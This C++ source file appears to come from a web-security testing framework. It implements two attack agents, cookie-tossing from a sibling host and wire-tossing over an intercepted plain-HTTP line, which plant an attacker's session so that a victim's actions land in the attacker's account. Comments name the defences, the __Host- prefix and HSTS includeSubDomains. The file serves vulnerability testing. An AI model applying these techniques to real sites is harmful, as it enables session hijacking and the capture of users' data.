// cookie-tossing: a sibling host sets the attacker's own, valid session for the parent domain and
// for the paths where the victim writes, so that it goes before the victim's. What he saves there
// is saved in the attacker's account. A cookie with the prefix __Host- cannot be set that way
// (RFC 6265bis 4.1.3.2).
//
// wire-tossing: the same by whoever answers in the clear for a name below the app's, as in a café.
// HSTS with includeSubDomains leaves nobody to answer (RFC 6797 14.4).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

// The longer path goes first in the Cookie header.
std::vector<std::string> paths(Target const& target) {
    std::vector<std::string> paths{"/"};
    for (Endpoint const* each : unsafe_endpoints(target))
        paths.push_back(each->path.substr(0, each->path.find("/:")));
    return paths;
}

http::HeaderList tossed(Target const& target, Credentials const& own, std::string const& more) {
    http::HeaderList cookies;
    for (Credential const& each : own)
        if (each.kind == Credential::Kind::Cookie)
            for (std::string const& path : paths(target))
                cookies.append("set-cookie", each.name + "=" + each.value + "; Domain=" +
                                                 target.surface().host + "; Path=" + path + more);
    return cookies;
}

class CookieTossing final : public Agent {
    void run(Target& target) override {
        OwnHost* sibling = sibling_host(target);
        if (sibling == nullptr) return;
        Credentials const own = own_credentials(target);
        if (!victim_signs_in(target)) return;
        Lure(target, *sibling).show("<h1>News</h1>", tossed(target, own, "; Secure"));
        victim_does(target, routines_option(target, option::kDoes));
        use(target, own);
        look_into_own_account(target);
        target.note(sibling->name() + " set the attacker's own session for " +
                    target.surface().host + ".");
    }
};

class WireTossing final : public Agent {
    void run(Target& target) override {
        if (target.line() == nullptr || target.victim() == nullptr) return;
        Credentials const own = own_credentials(target);
        victim_does(target, split(target.option(option::kFirst), ','));
        std::string const below = random_word(target, 6) + "." + target.surface().host;
        http::Response const welcome =
            page("<h1>Welcome to the Wi-Fi</h1>", tossed(target, own, ""));
        target.line()->meddle([&](http::Request const& request, Line::Beyond const& beyond) {
            return request.host == below ? welcome : beyond(request);
        });
        target.victim()->opens("http://" + below + "/");
        target.victim()->turns_away();
        target.line()->leave();
        // Before he signs in: over http nobody replaces a Secure cookie that is there already. Who
        // is greeted by another's name may wonder, and go on.
        (void)victim_signs_in(target);
        victim_does(target, routines_option(target, option::kDoes));
        use(target, own);
        look_into_own_account(target);
        target.note("Whoever answers for http://" + below + " sets cookies for the app.");
    }
};

}  // namespace

std::unique_ptr<Agent> make_cookie_tossing() { return std::make_unique<CookieTossing>(); }
std::unique_ptr<Agent> make_wire_tossing() { return std::make_unique<WireTossing>(); }

}  // namespace parapet::attack
